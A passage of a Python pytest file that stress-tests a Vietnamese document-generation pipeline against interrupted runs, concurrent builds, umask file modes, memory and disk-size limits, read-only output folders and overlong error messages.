    for manifest in outputs.rglob(".vanban-manifest.json"):
        for name, digest in json.loads(manifest.read_text(encoding="utf-8")).items():
            path = manifest.parent / name
            assert path.is_file() and hashlib.sha256(path.read_bytes()).hexdigest() == digest, path
    kept = [p for p in outputs.rglob("*") if "sua-tay" in p.name or "ban-sua" in p.name]
    assert kept == []  # no document taken for a hand edit


def _needs_make():
    from .test_make_hardening import VENV

    if not (VENV / ".installed").exists() or not shutil.which("make"):
        pytest.skip("needs make and the project's .venv")


@pytest.mark.slow
@pytest.mark.make
def test_killed_at_random_points_then_rerun_leaves_everything_consistent(tmp_path):
    import os
    import random
    import signal
    import time

    _needs_make()
    shutil.copytree(SAMPLE, tmp_path / "inputs" / SAMPLE.name)
    rng = random.Random(20)
    for delay in sorted(rng.uniform(0.3, 4.0) for _ in range(3)):
        run = _make(tmp_path, "plan", "proposal", "decision", "certificates", background=True)
        time.sleep(delay)
        os.killpg(run.pid, signal.SIGKILL)
        run.wait()
        for stream in run.outputs:
            stream.close()
        (tmp_path / "inputs" / SAMPLE.name / WORKBOOK).touch()  # the next run has work
    done = _make(tmp_path, "plan", "proposal", "decision", "certificates")
    assert done.returncode == 0, done.stderr
    _consistent(tmp_path / "outputs")
    assert "sửa tay" not in done.stdout + done.stderr


@pytest.mark.slow
@pytest.mark.make
def test_two_goals_at_once_on_a_300_unit_campaign(tmp_path):
    import time

    from .bigcampaign import big_campaign

    _needs_make()
    big_campaign(SAMPLE, tmp_path / "inputs" / "cum-300")
    started = time.monotonic()
    runs = [_make(tmp_path, goal, background=True) for goal in ("plan", "proposal")]
    for run in runs:
        run.wait(timeout=600)
    results = []
    for run in runs:
        texts = []
        for stream in run.outputs:
            stream.seek(0)
            texts.append(stream.read())
            stream.close()
        results.append((run.returncode, *texts))
    took = time.monotonic() - started
    assert [code for code, _, _ in results] == [0, 0], results
    out = tmp_path / "outputs" / "cum-300"
    assert (out / "ke-hoach.docx").is_file() and (out / "to-trinh-khen-thuong.docx").is_file()
    _consistent(tmp_path / "outputs")
    assert took < 120, took


@pytest.mark.slow
@pytest.mark.parametrize("umask,file_mode,dir_mode", [(0o022, 0o644, 0o755), (0o002, 0o664, 0o775)])
def test_modes_follow_the_umask_for_every_file_written(tmp_path, umask, file_mode, dir_mode):
    import os
    import stat
    import subprocess
    import sys

    shutil.copytree(SAMPLE, tmp_path / "inputs" / SAMPLE.name)
    outputs = tmp_path / "outputs"
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "pipeline",
            "build",
            "--inputs",
            str(tmp_path / "inputs"),
            "--outputs",
            str(outputs),
            "-d",
            "ke-hoach",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=lambda: os.umask(umask),
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert run.returncode == 0, run.stderr
    blank = subprocess.run(
        [sys.executable, "-m", "pipeline", "blank", "--out", str(outputs / "du-lieu-trong.xlsx")],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=lambda: os.umask(umask),
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )
    assert blank.returncode == 0, blank.stderr
    files = [p for p in outputs.rglob("*") if p.is_file() and not p.name.startswith(".vanban-khoa")]
    assert len(files) >= 4
    wrong = {
        str(p.relative_to(outputs)): oct(stat.S_IMODE(p.stat().st_mode))
        for p in files
        if stat.S_IMODE(p.stat().st_mode) != file_mode
    }
    assert wrong == {}
    folders = [p for p in outputs.rglob("*") if p.is_dir()]
    assert folders and all(stat.S_IMODE(p.stat().st_mode) == dir_mode for p in folders)


@pytest.mark.slow
def test_photo_of_50_megapixels_builds_the_news_fast_under_1_gib(campaign_dir, tmp_path):
    import os
    import resource
    import subprocess
    import sys
    import time

    from PIL import Image

    from pipeline.sanity import MAX_PHOTO_PIXELS

    size = (8160, 6120)
    assert size[0] * size[1] <= MAX_PHOTO_PIXELS
    photo = campaign_dir / "anh" / "kiem-tra-phuc-loi.jpg"
    Image.new("RGB", size, (90, 120, 150)).save(photo, "JPEG", quality=70)

    def cap():
        resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))

    started = time.monotonic()
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "pipeline",
            "build",
            "--inputs",
            str(campaign_dir.parent),
            "--outputs",
            str(tmp_path / "out"),
            "-d",
            "tin-bai",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=cap,
        env=dict(os.environ, PYTHONPATH=str(ROOT), OPENBLAS_NUM_THREADS="1"),
    )
    assert run.returncode == 0, run.stderr[-1000:]
    assert time.monotonic() - started < 60
    news = tmp_path / "out" / campaign_dir.name / "tin-bai.docx"
    with zipfile.ZipFile(news) as archive:
        media = [i for i in archive.infolist() if i.filename.startswith("word/media/")]
    assert media and max(i.file_size for i in media) < 1024 * 1024


def _build_run(inputs: Path, outputs: Path, preexec=None):
    import os
    import subprocess
    import sys

    return subprocess.run(
        [
            sys.executable,
            "-m",
            "pipeline",
            "build",
            "--inputs",
            str(inputs),
            "--outputs",
            str(outputs),
            "-d",
            "ke-hoach",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=preexec,
        env=dict(os.environ, PYTHONPATH=str(ROOT)),
    )


@pytest.mark.slow
def test_full_output_folder_is_one_line_and_keeps_what_was_there(campaign_dir, tmp_path):
    import resource
    import signal

    outputs = tmp_path / "out"
    assert _build_run(campaign_dir.parent, outputs).returncode == 0
    plan = outputs / campaign_dir.name / "ke-hoach.docx"
    before = plan.read_bytes()
    (campaign_dir / WORKBOOK).touch()
    edit = openpyxl.load_workbook(campaign_dir / WORKBOOK)
    edit["Chung"]["B2"] = "Cụm thi đua số 1 (sửa)"
    edit.save(campaign_dir / WORKBOOK)

    def full():  # every file over 4 KB fails to grow, as on a full disk
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (4096, 4096))

    run = _build_run(campaign_dir.parent, outputs, full)
    assert run.returncode != 0
    assert "Traceback" not in run.stderr
    lines = [x for x in run.stderr.splitlines() if x.startswith("Lỗi")]
    assert lines and "ke-hoach.docx" in lines[0] and len(lines[0]) < 400, run.stderr
    assert plan.read_bytes() == before  # the old document whole, not half a new one
    _consistent(outputs)


@pytest.mark.slow
def test_read_only_output_folder_is_one_line(campaign_dir, tmp_path):
    import os

    if os.geteuid() == 0:
        pytest.skip("root writes into read-only folders (the full-folder test covers the path)")
    outputs = tmp_path / "out"
    (outputs / campaign_dir.name).mkdir(parents=True)
    (outputs / campaign_dir.name).chmod(0o555)
    outputs.chmod(0o555)
    try:
        run = _build_run(campaign_dir.parent, outputs)
    finally:
        outputs.chmod(0o755)
        (outputs / campaign_dir.name).chmod(0o755)
    assert run.returncode != 0 and "Traceback" not in run.stderr
    assert any(x.startswith("Lỗi") for x in run.stderr.splitlines()), run.stderr


@pytest.mark.slow
def test_libreoffice_places_are_shared_between_processes(tmp_path):
    """A second process (make pdf beside the web page) waits for a place too."""
    import os
    import subprocess
    import sys
    import time

    from pipeline import export

    import threading

    # Each holder keeps its place until its stdin is closed: released one second after the
    # test starts waiting, however loaded the machine.
    probe = (
        "import sys\nfrom pipeline import export\n"
        "with export.slot():\n    print('in', flush=True)\n    sys.stdin.read()\n"
    )
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    holders = [
        subprocess.Popen(
            [sys.executable, "-c", probe], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env=env
        )
        for _ in range(export.MAX_PROCESSES)
    ]
    try:
        for holder in holders:
            assert holder.stdout.readline().strip() == "in"
        release = threading.Timer(1.0, lambda: [h.stdin.close() for h in holders])
        started = time.monotonic()
        release.start()
        with export.slot():
            waited = time.monotonic() - started
    finally:
        for holder in holders:
            if not holder.stdin.closed:
                holder.stdin.close()
            holder.wait(timeout=30)
    assert waited > 0.9, waited  # every place was held by the other processes until released


def test_long_problem_quoting_data_whole_is_clipped_everywhere(tmp_path):
    from pipeline import status
    from pipeline.errors import Problem

    problem = Problem("du-lieu.xlsx", 'mã "' + "x" * 100_000 + '" không có', "Đơn vị", 2, "y" * 1000)
    assert len(problem.message) < 2100 and len(problem.column) < 100
    recorded = status.record_failure(tmp_path, "dot", ValidationError([problem]))
    assert (tmp_path / "dot" / status.ERRORS).stat().st_size < 5000
    assert len(str(recorded.problems[0])) < 2300
